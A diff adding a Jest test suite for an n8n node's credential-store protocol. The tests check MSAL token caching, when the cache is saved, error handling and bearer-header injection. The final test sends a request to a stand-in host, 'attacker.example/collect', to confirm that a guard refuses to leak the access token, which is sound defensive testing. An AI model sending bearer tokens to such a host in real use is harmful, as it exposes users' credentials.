@@ -1,0 +1,158 @@
+import { describe, expect, it } from '@jest/globals';
+import type { ICredentialDataDecryptedObject, IDataObject, IExecuteFunctions, IHttpRequestOptions } from 'n8n-workflow';
+import type { NodeTokenRequest } from '../../nodes/core/signIn';
+import type { TokenOutcome } from '../../nodes/core/tokenResult';
+import {
+	acquireThroughCredentialStore,
+	authenticateRequest,
+	CACHE_MARKER_FIELD,
+	preAuthenticate,
+	runThroughCredentialStore,
+	SaveThenFail,
+	TOKEN_CACHE_FIELD,
+	type Acquirer,
+} from '../../nodes/n8n/credentialStore';
+
+const TYPE = 'msalClientCredentialsApi';
+
+/**
+ * n8n 2.38.7's side of the protocol, as its built code does it:
+ * - n8n-core request-helpers/authentication.js httpRequestWithAuthentication: getCredentials
+ *   (a fresh copy of the record), credentialsHelper.preAuthentication(…, expired=false),
+ *   Object.assign of what it returns, authenticate, send; any error is wrapped in NodeApiError.
+ * - cli credentials-helper.js preAuthentication: runs the type's preAuthentication only when
+ *   the first hidden expirable field is '' (or expired); saves nothing unless the output holds
+ *   that field; otherwise merges the output into the stored record (expression fields kept).
+ */
+class FakeN8n {
+	writes = 0;
+	sent: IHttpRequestOptions[] = [];
+
+	constructor(
+		public stored: ICredentialDataDecryptedObject,
+		private readonly acquire: Acquirer,
+	) {}
+
+	readonly context = {
+		helpers: {
+			httpRequestWithAuthentication: async (_type: string, requestOptions: IHttpRequestOptions) => {
+				const credentials = { ...this.stored };
+				try {
+					const data = await this.preAuthentication(credentials);
+					if (data) Object.assign(credentials, data);
+					const authenticated = await authenticateRequest(credentials, requestOptions, this.acquire);
+					this.sent.push(authenticated);
+					return {};
+				} catch (error) {
+					throw Object.assign(new Error('NodeApiError: the request failed'), { cause: error });
+				}
+			},
+		},
+	} as unknown as IExecuteFunctions;
+
+	private async preAuthentication(credentials: ICredentialDataDecryptedObject): Promise<IDataObject | undefined> {
+		if (credentials[CACHE_MARKER_FIELD] !== '') return undefined;
+		const output = await preAuthenticate(credentials, this.acquire);
+		if (output[CACHE_MARKER_FIELD] === undefined) return undefined;
+		this.stored = { ...this.stored, ...(output as ICredentialDataDecryptedObject) };
+		this.writes += 1;
+		return Object.assign(credentials, output);
+	}
+}
+
+const token = (accessToken: string) => ({
+	accessToken,
+	tokenType: 'Bearer',
+	expiresOn: new Date(Date.now() + 3600_000).toISOString(),
+	scopes: ['https://graph.microsoft.com/.default'],
+	tenantId: 'tenant',
+	fromCache: false,
+	correlationId: 'c',
+});
+
+/** An acquirer that records what it was given and answers as told. */
+function recordingAcquirer(answer: (stored: string | undefined, request: NodeTokenRequest) => TokenOutcome & { fieldsToStore?: Record<string, string> }) {
+	const calls: Array<{ stored: string | undefined; request: NodeTokenRequest }> = [];
+	const acquire: Acquirer = async (_data, stored, request) => {
+		calls.push({ stored, request });
+		return answer(stored, request);
+	};
+	return { acquire, calls };
+}
+
+const record = (fields: ICredentialDataDecryptedObject = {}) => ({ clientId: 'app', [CACHE_MARKER_FIELD]: '', [TOKEN_CACHE_FIELD]: 'cache-v1', ...fields });
+
+describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
+	it('runs the acquisition inside preAuthentication with the stored cache and the node request, saves a changed cache, and sends nothing', async () => {
+		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-1'), cacheToStore: 'cache-v2', warnings: [] }));
+		const n8n = new FakeN8n(record(), acquire);
+		const outcome = await acquireThroughCredentialStore(n8n.context, TYPE, { scopes: 'x/.default', forceRefresh: true });
+		expect(outcome.token.accessToken).toBe('at-1');
+		expect(calls).toEqual([{ stored: 'cache-v1', request: { scopes: 'x/.default', forceRefresh: true } }]);
+		expect(n8n.writes).toBe(1);
+		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v2');
+		expect(n8n.stored[CACHE_MARKER_FIELD]).toBe('');
+		expect(n8n.sent).toHaveLength(0);
+	});
+
+	it('writes nothing when the cache served the token', async () => {
+		const { acquire } = recordingAcquirer(() => ({ token: token('at-cached'), warnings: [] }));
+		const n8n = new FakeN8n(record(), acquire);
+		expect((await acquireThroughCredentialStore(n8n.context, TYPE, {})).token.accessToken).toBe('at-cached');
+		expect(n8n.writes).toBe(0);
+		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v1');
+	});
+
+	it('still gets a token, unsaved, when n8n skips preAuthentication (marker not empty)', async () => {
+		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-2'), cacheToStore: 'cache-v2', warnings: [] }));
+		const n8n = new FakeN8n(record({ [CACHE_MARKER_FIELD]: 'set-by-hand' }), acquire);
+		expect((await acquireThroughCredentialStore(n8n.context, TYPE, {})).token.accessToken).toBe('at-2');
+		expect(calls).toHaveLength(1);
+		expect(n8n.writes).toBe(0);
+		expect(n8n.sent).toHaveLength(0);
+	});
+
+	it('SaveThenFail saves its fields, keeps the cache, and the node sees the cause, not n8n’s wrapper', async () => {
+		const cause = new Error('Sign-in needed: open https://login/device and enter the code ABC');
+		const acquire: Acquirer = async () => {
+			throw new SaveThenFail(cause, { pendingSignIn: 'pending-1' });
+		};
+		const n8n = new FakeN8n(record({ pendingSignIn: '' }), acquire);
+		await expect(acquireThroughCredentialStore(n8n.context, TYPE, {})).rejects.toBe(cause);
+		expect(n8n.writes).toBe(1);
+		expect(n8n.stored.pendingSignIn).toBe('pending-1');
+		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v1');
+	});
+
+	it('a failed acquisition writes nothing and the node sees the original error', async () => {
+		const failure = new Error('AADSTS7000215: The client secret is wrong.');
+		const n8n = new FakeN8n(record(), async () => {
+			throw failure;
+		});
+		await expect(acquireThroughCredentialStore(n8n.context, TYPE, {})).rejects.toBe(failure);
+		expect(n8n.writes).toBe(0);
+	});
+
+	it('work other than a token (Sign Out, sign-in steps) returns its value and saves what it returns', async () => {
+		const { acquire, calls } = recordingAcquirer(() => ({ token: token('unused'), warnings: [] }));
+		const n8n = new FakeN8n(record({ pendingSignIn: 'old' }), acquire);
+		const value = await runThroughCredentialStore(n8n.context, TYPE, async (_data, stored) => ({ value: `saw ${stored}`, cacheToStore: 'cache-signed-out', fieldsToStore: { pendingSignIn: '' } }));
+		expect(value).toBe('saw cache-v1');
+		expect(calls).toHaveLength(0);
+		expect(n8n.stored).toMatchObject({ [TOKEN_CACHE_FIELD]: 'cache-signed-out', pendingSignIn: '' });
+		expect(n8n.writes).toBe(1);
+	});
+
+	it("n8n's HTTP Request node path: one acquisition per request, the bearer token added, the token guard applied", async () => {
+		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-http'), cacheToStore: 'cache-v2', warnings: [] }));
+		const n8n = new FakeN8n(record(), acquire);
+		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, { url: 'https://graph.microsoft.com/v1.0/me' });
+		expect(calls).toHaveLength(1);
+		expect(n8n.sent[0].headers).toMatchObject({ Authorization: 'Bearer at-http' });
+		expect(n8n.stored[TOKEN_CACHE_FIELD]).toBe('cache-v2');
+
+		const refused = await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, { url: 'https://attacker.example/collect' }).catch((e: Error) => e);
+		expect(String((refused as { cause?: Error }).cause?.message)).toContain('Refused to send the access token');
+		expect(n8n.sent).toHaveLength(1);
+	});
+});
